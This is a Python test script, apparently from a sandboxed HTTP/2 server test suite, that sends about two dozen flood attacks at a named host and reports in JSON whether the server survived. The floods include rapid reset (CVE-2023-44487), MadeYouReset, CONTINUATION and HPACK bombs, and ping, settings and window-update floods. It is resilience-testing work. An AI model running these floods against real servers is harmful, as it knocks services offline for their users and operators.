# SPDX-License-Identifier: Apache-2.0
"""Runs inside the sandbox: h2floods.py HOST PORT NAME. One attack by number, not by malformation: each sends far more than
any client would, and reads what comes back. The answer is one line of JSON: what was sent and how it ended."""
import json
import sys
import time

import h2frames
from h2cases import PATIENCE, Case, Names, Run, fetch, request_fields
from h2frames import block, continuation, data, frame, headers, literal, ping, rst_stream, settings, window_update

MANY = 60000
BATCH = 50


class Flood:
    def __init__(self, host, port):
        self.names = Names(host, port, "flood")
        self.run = Run(Case("flood", "", set(), ""), host, port)
        self.run.connect(host, port)
        self.peer = self.run.peer
        self.peer.sock.settimeout(5)
        self.peer.opened = 2 * MANY

    def fields(self, method="GET", path="/ok", more=()):
        return block(request_fields(self.names, method, path) + list(more))

    def batches(self, make, count=MANY, size=BATCH):
        """make(i) for i in range(count), joined."""
        return (b"".join(make(i) for i in range(start, min(count, start + size))) for start in range(0, count, size))

    def send(self, make, count=MANY, size=BATCH):
        return self.peer.send_flood(self.batches(make, count, size)) * size


# Each takes a Flood and returns how many of what it is about were sent.

def continuation_tiny(f):
    f.peer.send(headers(1, f.fields(), end_headers=False))
    return f.send(lambda i: continuation(1, b"\0\1x\1y", end=False))


def continuation_empty(f):
    f.peer.send(headers(1, f.fields(), end_headers=False))
    return f.send(lambda i: continuation(1, b"", end=False))


def continuation_large(f):
    f.peer.send(headers(1, f.fields(), end_headers=False))
    return f.send(lambda i: continuation(1, literal("x", b"y" * 16000), end=False), 20000, 1)


def rapid_reset(f):
    """CVE-2023-44487."""
    one = f.fields(path="/slow")
    return f.send(lambda i: headers(2 * i + 1, one) + rst_stream(2 * i + 1))


def rapid_reset_of_bodies(f):
    one = f.fields("POST", "/slow")
    return f.send(lambda i: headers(2 * i + 1, one, end_stream=False) + rst_stream(2 * i + 1))


def made_you_reset_window(f):
    """CVE-2025-8671: the server is made to reset, by a window that overflows."""
    one = f.fields(path="/slow")
    return f.send(lambda i: headers(2 * i + 1, one) + window_update(2 * i + 1, 0x7fffffff))


def made_you_reset_length(f):
    one = f.fields("POST", "/slow", [("content-length", "5")])
    return f.send(lambda i: headers(2 * i + 1, one, end_stream=False) + data(2 * i + 1, b"too much"))


def made_you_reset_closed(f):
    one = f.fields(path="/slow")
    return f.send(lambda i: headers(2 * i + 1, one) + data(2 * i + 1, b"late"))


def made_you_reset_malformed(f):
    one = f.fields(more=[("X-Upper", "1")])
    return f.send(lambda i: headers(2 * i + 1, one))


def headers_without_length(f):
    """CVE-2019-9516: fields without name and value."""
    empty = f.fields() + b"\0\0\0" * 3000
    return f.send(lambda i: headers(2 * i + 1, empty), 20000, 2)


def hpack_bomb(f):
    bomb = f.fields() + literal("x-bomb", b"x" * 4000, "incremental") + h2frames.indexed(62) * 10000
    return f.send(lambda i: headers(2 * i + 1, bomb), 3000, 1)


def settings_flood(f):
    f.peer.unacknowledged.extend([] for _ in range(MANY * 2))
    return f.send(lambda i: settings([("MAX_CONCURRENT_STREAMS", 100)]), MANY * 2)


def ping_flood(f):
    return f.send(lambda i: ping(), MANY * 2)


def deaf(f, piece):
    """Sends as much as possible while nothing is read."""
    f.peer.sock.settimeout(2)
    n = 0
    while n < 4 * MANY and f.peer.send(piece * BATCH):
        n += BATCH
    return n


def settings_flood_deaf(f):
    f.peer.unacknowledged.extend([] for _ in range(MANY * 4))
    return deaf(f, settings([("MAX_CONCURRENT_STREAMS", 100)]))


def ping_flood_deaf(f):
    return deaf(f, ping())


def empty_data(f):
    """CVE-2019-9518."""
    f.peer.send(headers(1, f.fields("POST"), end_stream=False))
    return f.send(lambda i: data(1), MANY * 4)


def padded_empty_data(f):
    f.peer.send(headers(1, f.fields("POST"), end_stream=False))
    return f.send(lambda i: data(1, b"", pad=0), MANY * 2)


def window_update_flood(f):
    return f.send(lambda i: window_update(0, 1), MANY * 4)


def window_update_flood_on_a_stream(f):
    f.peer.send(headers(1, f.fields("POST", "/hold"), end_stream=False))
    return f.send(lambda i: window_update(1, 1), MANY * 4)


def priority_flood(f):
    """CVE-2019-9513."""
    return f.send(lambda i: frame("PRIORITY", 2 * (i % 1000) + 1, 0, bytes(4) + bytes([i & 255])), MANY * 4)


def unknown_frames(f):
    one = frame(0x42, 0, 0, b"what" * 250)
    return f.send(lambda i: one, MANY)


def streams_without_end(f):
    """More streams than the server allows, none of them ended."""
    one = f.fields("POST", "/slow")
    return f.send(lambda i: headers(2 * i + 1, one, end_stream=False), 5000)


def slow_read(f):
    """A hundred large responses of which nothing is taken (CVE-2019-9517, CVE-2019-9511)."""
    f.peer.send_settings([("INITIAL_WINDOW_SIZE", 0x7fffffff)])
    f.peer.grant(0, 0x7fffffff - 65535)
    one = f.fields(path="/bytes/20000000")
    for i in range(100):
        f.peer.send(headers(2 * i + 1, one))
        f.peer.stream(2 * i + 1)
    time.sleep(1)
    return 100


def one_octet_windows(f):
    """A hundred responses that are taken octet by octet (CVE-2019-9511)."""
    f.peer.send_settings([("INITIAL_WINDOW_SIZE", 1)])
    one = f.fields(path="/bytes/1000000")
    for i in range(50):
        f.peer.stream(2 * i + 1)
        f.peer.send(headers(2 * i + 1, one))
    for _ in range(20):
        for i in range(50):
            f.peer.grant(2 * i + 1, 1)
        f.peer.pump(0.02)
    return 50


ATTACKS = ("continuation_tiny", "continuation_empty", "continuation_large", "rapid_reset", "rapid_reset_of_bodies",
           "made_you_reset_window", "made_you_reset_length", "made_you_reset_closed", "made_you_reset_malformed",
           "headers_without_length", "hpack_bomb", "settings_flood", "ping_flood", "settings_flood_deaf", "ping_flood_deaf",
           "empty_data", "padded_empty_data", "window_update_flood", "window_update_flood_on_a_stream", "priority_flood",
           "unknown_frames")


def main():
    host, port, name = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    f = Flood(host, port)
    began = time.monotonic()
    sent = globals()[name](f)
    p = f.peer
    if name not in ("slow_read", "one_octet_windows"):
        p.wait(lambda: p.closed, PATIENCE)
    resets = {}
    for s in p.streams.values():
        resets[s.reset] = resets.get(s.reset, 0) + 1
    after = fetch(host, port, ("GET", "/ok/after", b""), seconds=110)[0]  # an origin with much on offer is slow
    print(json.dumps({"sent": sent, "after": after, "goaway": [g[1] for g in p.goaways], "debug": [g[2].decode("latin-1") for g in p.goaways],
                      "closed": p.closed, "frames": {str(k): v for k, v in p.kinds.items()}, "resets": {str(k): v for k, v in resets.items()},
                      "seconds": round(time.monotonic() - began, 2), "violations": p.violations[:3]}))


if __name__ == "__main__":
    main()
